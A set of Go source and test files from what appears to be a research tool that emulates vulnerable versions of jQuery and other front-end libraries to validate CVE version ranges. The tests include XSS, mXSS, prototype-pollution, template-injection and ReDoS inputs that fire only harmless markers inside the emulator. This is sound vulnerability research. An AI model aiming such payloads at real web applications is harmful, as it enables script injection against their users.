		q.HtmlInsert(html)
		return
	}
	if q.env.in("1.4.0", "3.5.0") {
		html = htmlPrefilter(html)
	}
	q.env.insertHTML(html)
}

// Dollar models jQuery(strInput). Before 1.9.0 the string was treated as
// HTML whenever it contained a '<' anywhere (CVE-2012-6708); from 1.9.0 a
// string is HTML only when it starts with '<'.
func (q *JQuery) Dollar(input string) {
	htmlAnywhere := q.env.in("", "1.9.0")
	trimmed := strings.TrimSpace(input)
	isHTML := strings.HasPrefix(trimmed, "<")
	if htmlAnywhere && strings.Contains(input, "<") {
		isHTML = true
	}
	if !isHTML {
		return // treated as a selector: no DOM creation
	}
	start := strings.Index(input, "<")
	q.env.insertHTML(input[start:])
}

// HashSelector models jQuery("#" + location.hash): the rquickExpr of
// versions before 1.6.3 matched HTML inside the hash token and created
// nodes from it (CVE-2011-4969).
func (q *JQuery) HashSelector(hash string) {
	if !q.env.in("", "1.6.3") {
		return
	}
	if i := strings.Index(hash, "<"); i >= 0 {
		q.env.insertHTML(hash[i:])
	}
}

// DollarProps models jQuery(html, props): the props form forwards an
// "html" property straight into .html(). The paper's experiments found the
// unsafe span to be [1.5.0, 2.2.4) (CVE-2014-6071's TVV).
func (q *JQuery) DollarProps(html string, props map[string]string) {
	if payload, ok := props["html"]; ok && q.env.in("1.5.0", "2.2.4") {
		q.env.insertHTML(payload)
	}
}

// Load models .load(url) without a selector: the response HTML is inserted
// wholesale, and on the affected span (< 3.6.0, the TVV the paper
// established for CVE-2020-7656) embedded scripts execute.
func (q *JQuery) Load(response string) {
	if q.env.in("", "3.6.0") {
		q.env.insertHTML(response)
		return
	}
	// Fixed behaviour strips script elements before insertion.
	q.env.insertHTML(stripScripts(response))
}

// AjaxCrossDomain models a cross-domain $.ajax whose response announces a
// script content type: on the affected span the response is auto-executed
// (CVE-2015-9251 as disclosed).
func (q *JQuery) AjaxCrossDomain(contentType, body string) {
	if !strings.Contains(contentType, "javascript") {
		return
	}
	if q.env.in("1.12.0", "3.0.0") {
		q.env.recordScript(body)
	}
}

// ExtendDeep models jQuery.extend(true, target, source): a genuine
// recursive merge. Before 3.4.0 a "__proto__" key walks up into
// Object.prototype (CVE-2019-11358); the fix skips that key.
func (q *JQuery) ExtendDeep(target, source map[string]any) map[string]any {
	protoFixed := !q.env.in("", "3.4.0")
	var merge func(dst, src map[string]any)
	merge = func(dst, src map[string]any) {
		for k, v := range src {
			if k == "__proto__" {
				if protoFixed {
					continue
				}
				if m, ok := v.(map[string]any); ok {
					for pk, pv := range m {
						if s, ok := pv.(string); ok {
							q.env.polluted[pk] = s
						}
					}
				}
				continue
			}
			if sm, ok := v.(map[string]any); ok {
				dm, ok := dst[k].(map[string]any)
				if !ok {
					dm = map[string]any{}
					dst[k] = dm
				}
				merge(dm, sm)
				continue
			}
			dst[k] = v
		}
	}
	merge(target, source)
	return target
}

// Migrate emulates the jQuery-Migrate plugin, which restores removed legacy
// behaviours on top of a current jQuery.
type Migrate struct{ env *Env }

// Migrate returns the jQuery-Migrate emulator.
func (e *Env) Migrate() *Migrate { return &Migrate{env: e} }

// Dollar models jQuery(strInput) with Migrate loaded: the 1.x–2.x plugin
// line re-enabled the "HTML anywhere in the string" behaviour regardless of
// the underlying jQuery version; the paper's experiments put the affected
// span at [1.0.0, 3.0.0).
func (m *Migrate) Dollar(input string) {
	if m.env.in("1.0.0", "3.0.0") {
		if i := strings.Index(input, "<"); i >= 0 {
			m.env.insertHTML(input[i:])
			return
		}
	}
	// Without the legacy shim, defer to modern jQuery semantics: HTML only
	// when the string starts with '<'.
	if strings.HasPrefix(strings.TrimSpace(input), "<") {
		m.env.insertHTML(input)
	}
}

// stripScripts removes script elements from markup (the fixed .load path).
var scriptBlock = regexp.MustCompile(`(?is)<script\b.*?</script>`)

func stripScripts(html string) string {
	return scriptBlock.ReplaceAllString(html, "")
}
