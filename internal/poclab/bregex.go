package poclab

import "fmt"

// bregex is a deliberately naive backtracking regular-expression engine.
//
// Go's regexp is RE2 and cannot exhibit catastrophic backtracking, but the
// ReDoS advisories of Table 2 (Prototype CVE-2020-27511, Moment
// CVE-2016-4055 / CVE-2017-18214) are precisely about backtracking blow-up
// in JavaScript engines. This engine reproduces that behaviour: it counts
// every matcher step and aborts once a budget is exceeded, letting PoCs
// observe "this pattern/input pair is a denial of service" mechanically.
//
// Supported syntax: literals, '.', character classes [abc], [^abc], [a-z],
// groups (...), alternation |, and the quantifiers *, +, ? (greedy only) —
// enough to express the vulnerable patterns.

type bnode interface{ fmt.Stringer }

type bLiteral struct{ ch byte }
type bAny struct{}
type bClass struct {
	neg    bool
	ranges [][2]byte
}
type bSeq struct{ items []bquant }
type bAlt struct{ opts []bSeq }

type bquant struct {
	atom bnode
	min  int // 0 or 1
	max  int // 1 or -1 (unbounded)
}

func (l bLiteral) String() string { return string(l.ch) }
func (bAny) String() string       { return "." }
func (c bClass) String() string   { return "[class]" }
func (s bSeq) String() string     { return "(seq)" }
func (a bAlt) String() string     { return "(alt)" }

// compileB parses a pattern into an AST. Panics on malformed patterns —
// patterns are package-internal literals.
func compileB(pattern string) bAlt {
	p := &bparser{src: pattern}
	alt := p.parseAlt()
	if p.pos != len(p.src) {
		panic(fmt.Sprintf("bregex: trailing input at %d in %q", p.pos, pattern))
	}
	return alt
}

type bparser struct {
	src string
	pos int
}

func (p *bparser) parseAlt() bAlt {
	alt := bAlt{opts: []bSeq{p.parseSeq()}}
	for p.pos < len(p.src) && p.src[p.pos] == '|' {
		p.pos++
		alt.opts = append(alt.opts, p.parseSeq())
	}
	return alt
}

func (p *bparser) parseSeq() bSeq {
	var seq bSeq
	for p.pos < len(p.src) {
		c := p.src[p.pos]
		if c == '|' || c == ')' {
			break
		}
		atom := p.parseAtom()
		q := bquant{atom: atom, min: 1, max: 1}
		if p.pos < len(p.src) {
			switch p.src[p.pos] {
			case '*':
				q.min, q.max = 0, -1
				p.pos++
			case '+':
				q.min, q.max = 1, -1
				p.pos++
			case '?':
				q.min, q.max = 0, 1
				p.pos++
			}
		}
		seq.items = append(seq.items, q)
	}
	return seq
}

func (p *bparser) parseAtom() bnode {
	c := p.src[p.pos]
	switch c {
	case '(':
		p.pos++
		alt := p.parseAlt()
		if p.pos >= len(p.src) || p.src[p.pos] != ')' {
			panic("bregex: unclosed group")
		}
		p.pos++
		return alt
	case '[':
		return p.parseClass()
	case '.':
		p.pos++
		return bAny{}
	case '\\':
		p.pos += 2
		return escaped(p.src[p.pos-1])
	default:
		p.pos++
		return bLiteral{ch: c}
	}
}

func escaped(c byte) bnode {
	switch c {
	case 'd':
		return bClass{ranges: [][2]byte{{'0', '9'}}}
	case 'w':
		return bClass{ranges: [][2]byte{{'a', 'z'}, {'A', 'Z'}, {'0', '9'}, {'_', '_'}}}
	case 's':
		return bClass{ranges: [][2]byte{{' ', ' '}, {'\t', '\t'}, {'\n', '\n'}, {'\r', '\r'}}}
	default:
		return bLiteral{ch: c}
	}
}

func (p *bparser) parseClass() bnode {
	p.pos++ // '['
	cls := bClass{}
	if p.pos < len(p.src) && p.src[p.pos] == '^' {
		cls.neg = true
		p.pos++
	}
	for p.pos < len(p.src) && p.src[p.pos] != ']' {
		lo := p.src[p.pos]
		if lo == '\\' {
			p.pos++
			lo = p.src[p.pos]
		}
		p.pos++
		hi := lo
		if p.pos+1 < len(p.src) && p.src[p.pos] == '-' && p.src[p.pos+1] != ']' {
			p.pos++
			hi = p.src[p.pos]
			p.pos++
		}
		cls.ranges = append(cls.ranges, [2]byte{lo, hi})
	}
	if p.pos >= len(p.src) {
		panic("bregex: unclosed class")
	}
	p.pos++ // ']'
	return cls
}

// matchSteps attempts an anchored match of pattern against input and
// returns (matched, steps). It aborts with matched=false once steps exceeds
// budget; the step counter is the experiment's DoS signal.
func matchSteps(pattern, input string, budget int) (bool, int) {
	ast := compileB(pattern)
	m := &bmatcher{input: input, budget: budget}
	ok := m.matchAlt(ast, 0, func(end int) bool { return end == len(input) })
	return ok && !m.exhausted, m.steps
}

type bmatcher struct {
	input     string
	steps     int
	budget    int
	exhausted bool
}

func (m *bmatcher) tick() bool {
	m.steps++
	if m.steps > m.budget {
		m.exhausted = true
		return false
	}
	return true
}

// matchAlt tries each alternative; k receives the end position on success.
func (m *bmatcher) matchAlt(a bAlt, pos int, k func(int) bool) bool {
	if !m.tick() {
		return false
	}
	for _, seq := range a.opts {
		if m.matchSeq(seq, 0, pos, k) {
			return true
		}
		if m.exhausted {
			return false
		}
	}
	return false
}

func (m *bmatcher) matchSeq(s bSeq, idx, pos int, k func(int) bool) bool {
	if !m.tick() {
		return false
	}
	if idx == len(s.items) {
		return k(pos)
	}
	q := s.items[idx]
	rest := func(end int) bool { return m.matchSeq(s, idx+1, end, k) }
	return m.matchQuant(q, pos, 0, rest)
}

// matchQuant greedily consumes repetitions of the quantified atom.
func (m *bmatcher) matchQuant(q bquant, pos, count int, k func(int) bool) bool {
	if !m.tick() {
		return false
	}
	canMore := q.max < 0 || count < q.max
	if canMore {
		if m.matchAtom(q.atom, pos, func(end int) bool {
			if end == pos && q.max < 0 {
				// Zero-width repetition: avoid infinite loops.
				return false
			}
			return m.matchQuant(q, end, count+1, k)
		}) {
			return true
		}
		if m.exhausted {
			return false
		}
	}
	if count >= q.min {
		return k(pos)
	}
	return false
}

func (m *bmatcher) matchAtom(a bnode, pos int, k func(int) bool) bool {
	if !m.tick() {
		return false
	}
	switch n := a.(type) {
	case bLiteral:
		if pos < len(m.input) && m.input[pos] == n.ch {
			return k(pos + 1)
		}
		return false
	case bAny:
		if pos < len(m.input) {
			return k(pos + 1)
		}
		return false
	case bClass:
		if pos >= len(m.input) {
			return false
		}
		c := m.input[pos]
		in := false
		for _, r := range n.ranges {
			if c >= r[0] && c <= r[1] {
				in = true
				break
			}
		}
		if in != n.neg {
			return k(pos + 1)
		}
		return false
	case bAlt:
		return m.matchAlt(n, pos, k)
	default:
		return false
	}
}
