package poclab

import (
	"strings"
	"testing"

	"clientres/internal/semver"
	"clientres/internal/vulndb"
)

func envFor(t *testing.T, slug, ver string) *Env {
	t.Helper()
	e, err := NewEnv(slug, semver.MustParse(ver))
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestHtmlPrefilterRewrite(t *testing.T) {
	in := `<style><style/><img src=x onerror=PWN></style>`
	out := htmlPrefilter(in)
	if !strings.Contains(out, "<style></style>") {
		t.Errorf("self-closing style not expanded: %q", out)
	}
	// Void elements stay self-closing.
	if got := htmlPrefilter(`<br/><img src=x/>`); strings.Contains(got, "</br>") || strings.Contains(got, "</img>") {
		t.Errorf("void element wrongly expanded: %q", got)
	}
}

func TestMXSSEmergesFromRewriteOnly(t *testing.T) {
	payload := `<style><style/><img src=x onerror=PWN></style>`
	// Vulnerable version: the prefilter rewrite frees the img from the
	// raw-text style body and it executes.
	e := envFor(t, "jquery", "1.12.4")
	e.JQuery().HtmlInsert(payload)
	if !e.ScriptExecuted("PWN") {
		t.Error("1.12.4 should execute the mXSS payload")
	}
	// Fixed version: no rewrite, the img stays inert inside the style.
	e2 := envFor(t, "jquery", "3.5.0")
	e2.JQuery().HtmlInsert(payload)
	if e2.ScriptExecuted("PWN") {
		t.Error("3.5.0 must not execute the mXSS payload")
	}
	// Pre-1.12 versions wrapped differently and are not affected (the
	// overstated part of CVE-2020-11022).
	e3 := envFor(t, "jquery", "1.2.6")
	e3.JQuery().HtmlInsert(payload)
	if e3.ScriptExecuted("PWN") {
		t.Error("1.2.6 must not execute the mXSS payload")
	}
}

func TestExtendDeepPollution(t *testing.T) {
	e := envFor(t, "jquery", "3.3.1")
	out := e.JQuery().ExtendDeep(map[string]any{"a": 1}, map[string]any{
		"b":         2,
		"__proto__": map[string]any{"polluted": "yes"},
	})
	if !e.PrototypePolluted("polluted") {
		t.Error("3.3.1 should be pollutable")
	}
	if out["b"] != 2 || out["a"] != 1 {
		t.Error("merge lost normal keys")
	}
	if _, ok := out["__proto__"]; ok {
		t.Error("__proto__ must not land as a plain key")
	}
	e2 := envFor(t, "jquery", "3.4.0")
	e2.JQuery().ExtendDeep(map[string]any{}, map[string]any{
		"__proto__": map[string]any{"polluted": "yes"},
	})
	if e2.PrototypePolluted("polluted") {
		t.Error("3.4.0 must not be pollutable")
	}
}

func TestLoadScriptExecution(t *testing.T) {
	resp := `<div><script>PWNLOAD()</script></div>`
	e := envFor(t, "jquery", "3.5.1") // microsoft.com's version: truly vulnerable
	e.JQuery().Load(resp)
	if !e.ScriptExecuted("PWNLOAD") {
		t.Error("3.5.1 .load should execute scripts (the understated case)")
	}
	e2 := envFor(t, "jquery", "3.6.0")
	e2.JQuery().Load(resp)
	if e2.ScriptExecuted("PWNLOAD") {
		t.Error("3.6.0 .load must strip scripts")
	}
}

func TestDollarSemantics(t *testing.T) {
	sel := `#items <img src=x onerror=PWNDOLLAR>`
	e := envFor(t, "jquery", "1.8.3")
	e.JQuery().Dollar(sel)
	if !e.ScriptExecuted("PWNDOLLAR") {
		t.Error("1.8.3 treats selector strings with HTML as HTML")
	}
	e2 := envFor(t, "jquery", "1.9.0")
	e2.JQuery().Dollar(sel)
	if e2.ScriptExecuted("PWNDOLLAR") {
		t.Error("1.9.0 must treat the string as a selector")
	}
	// Leading-< strings are HTML on every version.
	e3 := envFor(t, "jquery", "3.6.0")
	e3.JQuery().Dollar(`<img src=x onerror=PWNHTML>`)
	if !e3.ScriptExecuted("PWNHTML") {
		t.Error("leading-< input is HTML even on fixed versions")
	}
}

func TestUnderscoreTemplateInjection(t *testing.T) {
	evil := "obj=window.INJ()||obj"
	e := envFor(t, "underscore", "1.8.3")
	src := e.Underscore().Template("x", evil)
	if !e.CodeInjected("INJ") || !strings.Contains(src, evil) {
		t.Error("1.8.3 should splice the variable option verbatim")
	}
	e2 := envFor(t, "underscore", "1.12.1")
	if src := e2.Underscore().Template("x", evil); src != "" || e2.CodeInjected("INJ") {
		t.Error("1.12.1 must reject non-identifier variables")
	}
	e3 := envFor(t, "underscore", "1.2.0")
	e3.Underscore().Template("x", evil)
	if e3.CodeInjected("INJ") {
		t.Error("pre-1.3.2 has no variable option to abuse")
	}
	// A legitimate identifier passes on all versions without injection.
	e4 := envFor(t, "underscore", "1.8.3")
	if src := e4.Underscore().Template("x", "data"); !strings.Contains(src, "var data") || e4.CodeInjected("data") {
		t.Error("benign identifier handling broken")
	}
}

func TestReDoSStepBlowup(t *testing.T) {
	// Vulnerable moment duration pattern explodes; fixed one stays linear.
	e := envFor(t, "moment", "2.10.6")
	e.Moment().ParseDuration(evilDuration)
	if !e.DoSObserved() {
		t.Errorf("2.10.6 duration parse should blow up (steps=%d)", e.Steps())
	}
	e2 := envFor(t, "moment", "2.17.0")
	e2.Moment().ParseDuration(evilDuration)
	if e2.DoSObserved() {
		t.Errorf("2.17.0 duration parse should be linear (steps=%d)", e2.Steps())
	}
	// Prototype stripTags blows up on every version.
	for _, v := range []string{"1.4.0", "1.7.1", "1.7.3"} {
		e3 := envFor(t, "prototype", v)
		e3.Prototype().StripTags(evilTag)
		if !e3.DoSObserved() {
			t.Errorf("prototype %s stripTags should blow up (steps=%d)", v, e3.Steps())
		}
	}
	// Benign input matches quickly even on vulnerable versions.
	e4 := envFor(t, "moment", "2.10.6")
	if ok := e4.Moment().ParseDuration("1 2 3 ms"); !ok || e4.DoSObserved() {
		t.Errorf("benign duration should match fast (ok=%v steps=%d)", ok, e4.Steps())
	}
}

func TestBregexBasics(t *testing.T) {
	cases := []struct {
		pattern, input string
		want           bool
	}{
		{`abc`, "abc", true},
		{`abc`, "abd", false},
		{`a+b`, "aaab", true},
		{`a*b`, "b", true},
		{`(a|b)+c`, "ababc", true},
		{`[a-z]+`, "hello", true},
		{`[^x]+`, "yyy", true},
		{`[^x]+`, "x", false},
		{`\d+`, "123", true},
		{`a?b`, "b", true},
		{`<\w+>`, "<div>", true},
	}
	for _, c := range cases {
		ok, _ := matchSteps(c.pattern, c.input, 100000)
		if ok != c.want {
			t.Errorf("match(%q, %q) = %v, want %v", c.pattern, c.input, ok, c.want)
		}
	}
}

func TestRunReproducesPaperTVVs(t *testing.T) {
	findings, err := RunAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(findings) != len(vulndb.Advisories()) {
		t.Fatalf("findings = %d, want %d", len(findings), len(vulndb.Advisories()))
	}
	for _, f := range findings {
		if !f.MatchesPaper {
			t.Errorf("%s: computed TVV %s disagrees with the paper's %s",
				f.Advisory.ID, f.TVV, f.Advisory.EffectiveTrueRange())
		}
	}
}

func TestAccuracyClassifications(t *testing.T) {
	// The paper labels each incorrect CVE by its *net* direction; several
	// "understated" rows also raise the floor (1.4.2→1.5.0 for
	// CVE-2014-6071), which our strict classifier reports as Mixed. The
	// expectations below accept either where the paper's row is net-
	// understated but strictly mixed.
	expect := map[string][]vulndb.Accuracy{
		"CVE-2020-7656":       {vulndb.Understated},
		"CVE-2014-6071":       {vulndb.Understated, vulndb.Mixed},
		"SNYK-JQMIGRATE-2013": {vulndb.Understated, vulndb.Mixed},
		"CVE-2016-7103":       {vulndb.Understated, vulndb.Mixed},
		"CVE-2020-11023":      {vulndb.Overstated},
		"CVE-2020-11022":      {vulndb.Overstated},
		"CVE-2012-6708":       {vulndb.Overstated},
		"CVE-2018-20676":      {vulndb.Overstated},
		"CVE-2018-14040":      {vulndb.Overstated},
		"CVE-2016-10735":      {vulndb.Overstated},
		"CVE-2019-11358":      {vulndb.Accurate},
		"CVE-2019-8331":       {vulndb.Accurate},
		"CVE-2021-41182":      {vulndb.Accurate},
		"CVE-2016-4055":       {vulndb.Mixed}, // raised floor AND extended ceiling
	}
	for id, wants := range expect {
		f, err := Run(id)
		if err != nil {
			t.Fatal(err)
		}
		ok := false
		for _, w := range wants {
			if f.Accuracy == w {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s accuracy = %v, want one of %v (TVV %s vs CVE %s)",
				id, f.Accuracy, wants, f.TVV, f.Advisory.CVERange)
		}
	}
}

func TestUnderOverStatedVersionLists(t *testing.T) {
	f, err := Run("CVE-2020-7656")
	if err != nil {
		t.Fatal(err)
	}
	under := f.Understated()
	if len(under) == 0 {
		t.Fatal("CVE-2020-7656 must have understated versions")
	}
	// The paper highlights 1.10.1 and 3.5.1 as vulnerable-but-undisclosed.
	found := map[string]bool{}
	for _, v := range under {
		found[v.Canonical()] = true
	}
	if !found["1.10.1"] || !found["3.5.1"] {
		t.Errorf("understated set missing highlighted versions: %v", under)
	}
	f2, err := Run("CVE-2020-11022")
	if err != nil {
		t.Fatal(err)
	}
	over := f2.Overstated()
	if len(over) == 0 {
		t.Fatal("CVE-2020-11022 must have overstated versions")
	}
	for _, v := range over {
		if !v.Less(semver.MustParse("1.12.0")) {
			t.Errorf("overstated version %s should be below 1.12.0", v)
		}
	}
}

func TestIncorrectCVECountMatchesPaper(t *testing.T) {
	findings, err := RunAll()
	if err != nil {
		t.Fatal(err)
	}
	incorrect := 0
	for _, f := range findings {
		if f.Accuracy != vulndb.Accurate {
			incorrect++
		}
	}
	// Section 6.4: 13 of 27 CVEs state incorrect versions (the paper's
	// caption says 12; our sweep counts every row with any disagreement).
	if incorrect < 12 || incorrect > 14 {
		t.Errorf("incorrect CVEs = %d, want 12–14 (paper: 13)", incorrect)
	}
}

func TestEnvUnknownLibrary(t *testing.T) {
	if _, err := NewEnv("no-such-lib", semver.MustParse("1.0")); err == nil {
		t.Error("unknown library must error")
	}
}

func TestCompressIntervals(t *testing.T) {
	vs := []semver.Version{
		semver.MustParse("1.0"), semver.MustParse("1.1"),
		semver.MustParse("2.0"), semver.MustParse("3.0"),
	}
	set := compressIntervals(vs, []bool{true, true, false, true})
	if len(set.Intervals) != 2 {
		t.Fatalf("intervals = %d: %s", len(set.Intervals), set)
	}
	if !set.Contains(semver.MustParse("1.1")) || set.Contains(semver.MustParse("2.0")) ||
		!set.Contains(semver.MustParse("3.0")) {
		t.Errorf("interval membership wrong: %s", set)
	}
}
