package poclab

import (
	"fmt"
	"strings"

	"clientres/internal/semver"
	"clientres/internal/vulndb"
)

// Env is one controlled experiment environment: a single library at a
// single version, with effect recorders the PoCs observe. It corresponds to
// one of the paper's "85 different environments".
type Env struct {
	Lib     vulndb.Library
	Version semver.Version

	executed []string          // script payloads that ran
	polluted map[string]string // Object.prototype pollution results
	injected []string          // code injected into generated sources
	steps    int               // simulated regex-engine steps
	leaked   bool              // authorization bypass observed
}

// NewEnv sets up the environment for a library slug and version. The
// version need not be in the catalog (the paper also tested in-between
// builds), but the slug must be known.
func NewEnv(slug string, version semver.Version) (*Env, error) {
	lib, ok := vulndb.LibraryBySlug(slug)
	if !ok {
		return nil, fmt.Errorf("poclab: unknown library %q", slug)
	}
	return &Env{Lib: lib, Version: version, polluted: map[string]string{}}, nil
}

// recordScript registers an executed script payload.
func (e *Env) recordScript(code string) { e.executed = append(e.executed, code) }

// recordInjection registers attacker code spliced into generated source.
func (e *Env) recordInjection(code string) { e.injected = append(e.injected, code) }

// ScriptExecuted reports whether any script containing marker ran.
func (e *Env) ScriptExecuted(marker string) bool {
	for _, code := range e.executed {
		if contains(code, marker) {
			return true
		}
	}
	return false
}

// PrototypePolluted reports whether Object.prototype gained the given key.
func (e *Env) PrototypePolluted(key string) bool {
	_, ok := e.polluted[key]
	return ok
}

// CodeInjected reports whether attacker code reached a generated source.
func (e *Env) CodeInjected(marker string) bool {
	for _, code := range e.injected {
		if contains(code, marker) {
			return true
		}
	}
	return false
}

// Steps returns the simulated regex-engine step count of the last call.
func (e *Env) Steps() int { return e.steps }

// redosThreshold is the step budget above which an input is considered a
// denial of service for the experiment's fixed input size.
const redosThreshold = 1_000_000

// DoSObserved reports whether the last operation blew the step budget.
func (e *Env) DoSObserved() bool { return e.steps > redosThreshold }

// AuthorizationBypassed reports a missing-authorization effect.
func (e *Env) AuthorizationBypassed() bool { return e.leaked }

// in reports whether the env's version lies in [introduced, fixed), with a
// zero introduced meaning "since the first release" and a zero fixed
// meaning "never fixed". This is the code-history conditioning primitive
// every emulator uses.
func (e *Env) in(introduced, fixed string) bool {
	v := e.Version
	if introduced != "" {
		if v.Less(semver.MustParse(introduced)) {
			return false
		}
	}
	if fixed != "" {
		if !v.Less(semver.MustParse(fixed)) {
			return false
		}
	}
	return true
}

func contains(haystack, needle string) bool { return strings.Contains(haystack, needle) }
