package poclab

import (
	"fmt"

	"clientres/internal/semver"
	"clientres/internal/vulndb"
)

// Finding is the result of validating one advisory against every catalogued
// version of its library — one row of the paper's Version Validation
// Experiment (Section 6.4, Table 2, Figures 4 and 13).
type Finding struct {
	Advisory vulndb.Advisory
	PoC      PoC
	// Vulnerable lists the catalog versions on which the PoC triggered.
	Vulnerable []semver.Version
	// TVV is the computed true-vulnerable-version set, compressed to
	// contiguous catalog intervals.
	TVV semver.RangeSet
	// Accuracy classifies the CVE-stated range against the computed TVV.
	Accuracy vulndb.Accuracy
	// MatchesPaper reports whether the computed TVV agrees with the
	// paper's published TVV on every catalog version.
	MatchesPaper bool
}

// Understated returns catalog versions that are truly vulnerable but
// missing from the CVE's stated range (the red stripes of Figure 4).
func (f Finding) Understated() []semver.Version {
	var out []semver.Version
	for _, v := range f.Vulnerable {
		if !f.Advisory.CVERange.Contains(v) {
			out = append(out, v)
		}
	}
	return out
}

// Overstated returns catalog versions inside the CVE's stated range that
// the PoC could not trigger on (the blue stripes of Figure 4).
func (f Finding) Overstated() []semver.Version {
	cat, _ := vulndb.CatalogFor(f.Advisory.Lib)
	vulnerable := map[string]bool{}
	for _, v := range f.Vulnerable {
		vulnerable[v.Canonical()] = true
	}
	var out []semver.Version
	for _, v := range cat.Versions() {
		if f.Advisory.CVERange.Contains(v) && !vulnerable[v.Canonical()] {
			out = append(out, v)
		}
	}
	return out
}

// Run validates one advisory: it sets up an environment per catalog version
// (the paper's "85 different environments" for jQuery), runs the PoC, and
// derives the TVV set and accuracy classification.
func Run(advisoryID string) (Finding, error) {
	poc, err := PoCFor(advisoryID)
	if err != nil {
		return Finding{}, err
	}
	var adv vulndb.Advisory
	found := false
	for _, a := range vulndb.Advisories() {
		if a.ID == advisoryID {
			adv, found = a, true
			break
		}
	}
	if !found {
		return Finding{}, fmt.Errorf("poclab: advisory %q not in vulndb", advisoryID)
	}
	cat, ok := vulndb.CatalogFor(adv.Lib)
	if !ok {
		return Finding{}, fmt.Errorf("poclab: no catalog for %q", adv.Lib)
	}

	f := Finding{Advisory: adv, PoC: poc}
	versions := cat.Versions()
	semver.Sort(versions)
	triggered := make([]bool, len(versions))
	for i, v := range versions {
		env, err := NewEnv(adv.Lib, v)
		if err != nil {
			return Finding{}, err
		}
		if poc.Run(env) {
			triggered[i] = true
			f.Vulnerable = append(f.Vulnerable, v)
		}
	}
	f.TVV = compressIntervals(versions, triggered)

	// Accuracy: compare CVE range vs computed TVV over the catalog.
	under, over := false, false
	for i, v := range versions {
		inCVE := adv.CVERange.Contains(v)
		switch {
		case triggered[i] && !inCVE:
			under = true
		case !triggered[i] && inCVE:
			over = true
		}
	}
	switch {
	case under && over:
		f.Accuracy = vulndb.Mixed
	case under:
		f.Accuracy = vulndb.Understated
	case over:
		f.Accuracy = vulndb.Overstated
	default:
		f.Accuracy = vulndb.Accurate
	}

	// Agreement with the paper's published TVV.
	f.MatchesPaper = true
	paperTVV := adv.EffectiveTrueRange()
	for i, v := range versions {
		if triggered[i] != paperTVV.Contains(v) {
			f.MatchesPaper = false
			break
		}
	}
	return f, nil
}

// RunAll validates every Table 2 advisory in row order.
func RunAll() ([]Finding, error) {
	var out []Finding
	for _, adv := range vulndb.Advisories() {
		f, err := Run(adv.ID)
		if err != nil {
			return nil, err
		}
		out = append(out, f)
	}
	return out, nil
}

// compressIntervals turns per-version trigger flags into contiguous
// inclusive intervals over the sorted catalog versions.
func compressIntervals(versions []semver.Version, triggered []bool) semver.RangeSet {
	var set semver.RangeSet
	i := 0
	for i < len(versions) {
		if !triggered[i] {
			i++
			continue
		}
		j := i
		for j+1 < len(versions) && triggered[j+1] {
			j++
		}
		set.Intervals = append(set.Intervals, semver.Interval{
			Lo: versions[i], LoInc: true,
			Hi: versions[j], HiInc: true,
		})
		i = j + 1
	}
	return set
}
