// Package poclab is the controlled experiment environment of Section 6.4:
// it validates, for every catalogued version of every library, whether each
// advisory's proof-of-concept actually triggers — producing the True
// Vulnerable Version (TVV) ranges that expose understated and overstated
// CVE reports.
//
// The paper did this with 85 browser environments and live PoCs. Offline,
// poclab substitutes behavioural emulation: a miniature DOM with
// jQuery-style script-execution semantics, plus per-library emulators whose
// code paths are conditioned on the libraries' real version history (when a
// regex was rewritten, when a feature was introduced, when a sanitizer
// landed). Several vulnerabilities emerge mechanically (the self-closing-tag
// regex rewrite is applied and the resulting markup genuinely re-parses into
// an executing node; $.extend really merges a __proto__ key; ReDoS step
// counts really explode); the rest are conditioned on encoded
// feature-introduction/fix facts. Either way the experiment *runs* the PoC
// and observes the effect, so perturbing an emulated behaviour flips the
// computed TVVs — which is what the tests exercise.
package poclab

import (
	"strings"

	"clientres/internal/htmlx"
)

// DOMNode is one element of the mini-DOM.
type DOMNode struct {
	Tag      string
	Attrs    map[string]string
	Text     string
	Children []*DOMNode
}

// Attr returns an attribute value ("" when absent).
func (n *DOMNode) Attr(key string) string { return n.Attrs[key] }

// parseFragment builds a node forest from an HTML fragment. Raw-text
// elements (script/style/...) keep their bodies as Text — markup inside a
// <style> does NOT become elements, exactly the property the mXSS payloads
// abuse when a buggy prefilter rewrites the markup first.
func parseFragment(html string) []*DOMNode {
	var roots []*DOMNode
	var stack []*DOMNode
	push := func(n *DOMNode) {
		if len(stack) == 0 {
			roots = append(roots, n)
		} else {
			parent := stack[len(stack)-1]
			parent.Children = append(parent.Children, n)
		}
	}
	z := htmlx.New(html)
	for {
		tok, ok := z.Next()
		if !ok {
			return roots
		}
		switch tok.Kind {
		case htmlx.StartTagToken, htmlx.SelfClosingTagToken:
			n := &DOMNode{Tag: tok.Name, Attrs: map[string]string{}}
			for _, a := range tok.Attrs {
				n.Attrs[a.Key] = a.Val
			}
			push(n)
			if tok.Kind == htmlx.StartTagToken && !voidElement(tok.Name) {
				stack = append(stack, n)
			}
		case htmlx.EndTagToken:
			for i := len(stack) - 1; i >= 0; i-- {
				if stack[i].Tag == tok.Name {
					stack = stack[:i]
					break
				}
			}
		case htmlx.TextToken:
			if len(stack) > 0 {
				stack[len(stack)-1].Text += tok.Data
			}
		}
	}
}

func voidElement(name string) bool {
	switch name {
	case "img", "br", "hr", "input", "meta", "link", "area", "base",
		"col", "embed", "param", "source", "track", "wbr":
		return true
	}
	return false
}

// walk visits every node of a forest depth-first.
func walk(nodes []*DOMNode, fn func(*DOMNode)) {
	for _, n := range nodes {
		fn(n)
		walk(n.Children, fn)
	}
}

// insertHTML models jQuery-style DOM manipulation: unlike bare innerHTML,
// jQuery's domManip executes <script> elements in inserted markup, and an
// <img> with a broken src fires its onerror handler. Executed payloads are
// recorded on the Env.
func (e *Env) insertHTML(html string) {
	nodes := parseFragment(html)
	walk(nodes, func(n *DOMNode) {
		switch n.Tag {
		case "script":
			if body := strings.TrimSpace(n.Text); body != "" {
				e.recordScript(body)
			}
		case "img":
			if onerror := n.Attr("onerror"); onerror != "" && brokenSrc(n.Attr("src")) {
				e.recordScript(onerror)
			}
		}
	})
}

// brokenSrc reports whether an image source fails to load (firing onerror).
func brokenSrc(src string) bool {
	return src == "" || src == "x" || strings.HasPrefix(src, "invalid:")
}
