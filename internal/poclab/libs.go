package poclab

import (
	"regexp"
	"strings"
)

// Bootstrap emulates the Bootstrap component code paths of Table 2. Each
// component forwards attacker-controllable attribute/option values into
// jQuery-style DOM APIs; whether that is dangerous depends on when the
// component (or option) was introduced and when its sanitization landed —
// the introduction/fix facts below are the version history the paper's
// experiments recovered.
